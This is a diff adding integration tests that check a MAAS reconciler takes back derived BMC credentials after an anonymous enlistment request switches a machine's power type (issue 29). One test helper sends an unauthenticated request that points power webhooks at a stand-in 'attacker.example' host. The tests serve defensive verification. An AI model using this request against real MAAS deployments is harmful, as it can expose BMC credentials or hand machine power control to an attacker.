@@ -779,3 +779,116 @@ def test_the_running_loop_takes_a_mac_re_pointed_password_back_within_one_cycle(
     logged = (tmp_path / "out").read_text() + (tmp_path / "err").read_text()
     assert derived not in logged and identity.bmc_user(SEED, serial) not in logged
     assert f"rotate {serial}" in logged     # no cluster access here: the command is named
+
+
+# --- (d) anonymous enlistment switches the power type (issue 29) --------------------------------
+
+
+def derived_holders(real_maas, serial: str) -> dict[str, set[str]]:
+    """system_id -> the names of its power parameters holding the VM's derived user or password."""
+    secrets = {identity.bmc_password(SEED, serial), identity.bmc_user(SEED, serial)}
+    answer = real_maas.api("GET", "machines/", {"op": "power_parameters"})
+    assert answer.status_code == 200, (answer.status_code, answer.text)
+    return {sid: names for sid, params in answer.json().items()
+            if (names := {name for name, value in params.items() if isinstance(value, str) and value in secrets})}
+
+
+def switch_power_type(real_maas, how: str, namespace: str, mac: str) -> None:
+    """One of the three switches of issue 29, as any PXE host can send it (no credentials)."""
+    host = f"web1.{namespace}.{DOMAIN}"
+    fields = {"architecture": "amd64/generic"}
+    if how == "ipmi-own-address":      # BMC enlistment: the VM's public address alone, no MAC
+        fields.update(power_type="ipmi", power_parameters=json.dumps({"power_address": host}))
+    elif how == "ipmi-by-mac":
+        fields.update(mac_addresses=mac, power_type="ipmi",
+                      # An address of its own per case: BMC enlistment would find another case's machine.
+                      power_parameters=json.dumps({"power_address": "10.66.%d.%d" % divmod(
+                          int(identity.smbios_uuid("x", namespace)[:4], 16) % 60000, 250)}))
+    else:
+        hook = f"https://{namespace}.hooks.attacker.example/power"
+        fields.update(mac_addresses=mac, power_type="webhook", power_parameters=json.dumps(
+            {"power_on_uri": hook + "/on", "power_off_uri": hook + "/off", "power_query_uri": hook + "/query"}))
+    answer = real_maas.api("POST", "machines/", fields, anonymous=True)
+    assert answer.status_code == 200, answer.text
+
+
+SWITCHES = ("ipmi-own-address", "ipmi-by-mac", "webhook-by-mac")
+
+
+@pytest.mark.parametrize("status", ["New", "Commissioning"])
+@pytest.mark.parametrize("how", SWITCHES)
+def test_a_power_type_switch_holds_no_derived_credential_after_one_cycle(real_maas, site, tmp_path, how, status):
+    """MAAS's AnonMachinesHandler.create switches the VM's own machine and keeps power_user and
+    power_pass (AdminMachineForm); the next cycle takes both back through the new type's names, and
+    a restarted reconciler does the same from its audit log."""
+    namespace = f"pt-{how[:4]}{how[-3:]}-{status[:3].lower()}"
+    serial, mac, vm = enlist_by_mac(real_maas, site, tmp_path, namespace, status)
+    log = tmp_path / "audit.log"
+    loop = reconciler(real_maas, site, Audit(str(log)), commission="never")
+    loop.cycle()
+    assert derived_holders(real_maas, serial) == {vm.system_id: {"power_user", "power_pass"}}
+    switch_power_type(real_maas, how, namespace, mac)
+    switched = real_maas.machine(vm.system_id)
+    assert switched["power_type"] == ("webhook" if how.startswith("webhook") else "ipmi")
+    assert derived_holders(real_maas, serial) == {vm.system_id: {"power_user", "power_pass"}}   # MAAS kept them
+    loop.cycle()
+    assert derived_holders(real_maas, serial) == {}
+    assert real_maas.machine(vm.system_id)["power_type"] == switched["power_type"]   # left as switched
+    resets = [r for r in Audit.read_file(str(log)) if r["action"] == "reset-password"]
+    assert [(r["system_id"], r["outcome"], r["leak"], r["power_type"]) for r in resets] == [
+        (vm.system_id, "ok", True, switched["power_type"])]
+    loop.cycle()
+    assert derived_holders(real_maas, serial) == {}
+    # The same while the reconciler was down: put the VM back, give it its password, switch again.
+    real_maas.api("PUT", f"machines/{vm.system_id}/", {
+        "power_type": "redfish", "power_parameters_power_address": f"web1.{namespace}.{DOMAIN}",
+        "power_parameters_power_user": identity.ENLIST_USER_PREFIX + "f" * 32,
+        "power_parameters_power_pass": identity.PLACEHOLDER_PASSWORD, "power_parameters_node_id": "1"})
+    back = reconciler(real_maas, site, Audit(str(log)), commission="never")
+    back.restore(Audit.read_file(str(log)))
+    back.cycle()
+    assert derived_holders(real_maas, serial) == {vm.system_id: {"power_user", "power_pass"}}
+    switch_power_type(real_maas, how, namespace, mac)
+    fresh = reconciler(real_maas, site, RecordingAudit(), commission="never")
+    fresh.restore(Audit.read_file(str(log)))
+    fresh.cycle()
+    assert derived_holders(real_maas, serial) == {}
+
+
+@pytest.mark.parametrize("how", SWITCHES)
+def test_the_running_loop_takes_back_what_a_power_type_switch_kept_within_one_cycle(real_maas, site, tmp_path, how):
+    """`reconcile --interval 2` as the service runs it, the VM in New."""
+    import time
+
+    namespace = f"ptl-{how[:4]}{how[-3:]}"
+    serial, mac, vm = enlist_by_mac(real_maas, site, tmp_path, namespace, "New")
+    values = yaml.safe_load(site["values"].read_text())
+    values["maas"].update(commission="never", audit_log=str(tmp_path / "audit.log"))
+    values_file = tmp_path / "values.yaml"
+    values_file.write_text(yaml.safe_dump(values))
+    interval = 2
+
+    def wait_for(condition, what: str, limit: float = 90.0) -> float:
+        start = time.monotonic()
+        while not condition():
+            assert time.monotonic() - start < limit, f"{what}: not within {limit} s"
+            assert service.poll() is None, (service.returncode, (tmp_path / "err").read_text())
+            time.sleep(0.2)
+        return time.monotonic() - start
+
+    with open(tmp_path / "out", "w") as out, open(tmp_path / "err", "w") as err:
+        service = subprocess.Popen([str(CLI), "--values", str(values_file), "reconcile", "--interval", str(interval)],
+                                   stdout=out, stderr=err)
+        try:
+            wait_for(lambda: derived_holders(real_maas, serial) == {vm.system_id: {"power_user", "power_pass"}},
+                     "the derived credentials set")
+            switch_power_type(real_maas, how, namespace, mac)
+            took = wait_for(lambda: derived_holders(real_maas, serial) == {}, "the credentials taken back",
+                            limit=3 * (interval + 10))
+        finally:
+            service.terminate()
+            service.wait(timeout=60)
+    print(f"power type switch {how}: derived credentials gone from MAAS after {took:.1f} s (interval {interval} s)")
+    logged = (tmp_path / "out").read_text() + (tmp_path / "err").read_text()
+    assert identity.bmc_password(SEED, serial) not in logged and identity.bmc_user(SEED, serial) not in logged
+    assert f"rotate {serial}" in logged     # no cluster access here: the command is named
